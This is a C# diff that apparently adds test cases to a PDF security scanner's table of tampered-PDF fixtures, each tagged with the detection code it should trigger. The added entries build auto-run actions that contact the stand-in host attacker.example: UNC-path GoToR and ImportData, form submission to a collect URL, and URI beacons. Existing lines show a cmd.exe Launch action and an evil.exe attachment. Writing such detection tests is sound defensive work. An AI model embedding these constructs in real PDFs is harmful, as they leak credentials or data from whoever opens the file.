@@ -16,6 +16,22 @@ internal sealed record PdfTampering(string Code, Action<PdfDocument> Apply)
             Dict(d, ("/S", new PdfName("/Launch")), ("/F", new PdfString("C:\\Windows\\System32\\cmd.exe")))),
         ["xfa-form"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/AcroForm"] =
             Dict(d, ("/Fields", new PdfArray(d)), ("/XFA", new PdfString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>")))),
+        ["gotor-open-action-to-a-network-path"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
+            Dict(d, ("/S", new PdfName("/GoToR")), ("/F", new PdfString("\\\\attacker.example\\share\\x.pdf")), ("/D", new PdfArray(d, new PdfInteger(0), new PdfName("/Fit"))))),
+        ["gotoe-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
+            Dict(d, ("/S", new PdfName("/GoToE")), ("/D", new PdfArray(d, new PdfInteger(0), new PdfName("/Fit"))))),
+        ["submit-form-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
+            Dict(d, ("/S", new PdfName("/SubmitForm")), ("/F", Dict(d, ("/FS", new PdfName("/URL")), ("/F", new PdfString("https://attacker.example/collect")))))),
+        ["import-data-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
+            Dict(d, ("/S", new PdfName("/ImportData")), ("/F", new PdfString("\\\\attacker.example\\data.fdf")))),
+        ["uri-open-action"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/OpenAction"] =
+            Dict(d, ("/S", new PdfName("/URI")), ("/URI", new PdfString("https://attacker.example/beacon")))),
+        ["uri-link-annotation"] = new("pdf-active-content", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
+            Annotation(d, "/Link", ("/A", Dict(d, ("/S", new PdfName("/URI")), ("/URI", new PdfString("https://attacker.example/")))))) ),
+        ["submit-form-link-annotation"] = new("pdf-active-content", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
+            Annotation(d, "/Link", ("/A", Dict(d, ("/S", new PdfName("/SubmitForm")), ("/F", new PdfString("https://attacker.example/"))))))),
+        ["document-additional-action-gotor"] = new("pdf-active-content", d => d.Internals.Catalog.Elements["/AA"] =
+            Dict(d, ("/WC", Dict(d, ("/S", new PdfName("/GoToR")), ("/F", new PdfString("\\\\attacker.example\\x.pdf")))))),
         ["file-attachment-annotation"] = new("pdf-embedded-files", d => d.Pages[0].Elements["/Annots"] = new PdfArray(d,
             Annotation(d, "/FileAttachment", ("/FS", Dict(d, ("/Type", new PdfName("/Filespec")), ("/F", new PdfString("evil.exe"))))))),
     };
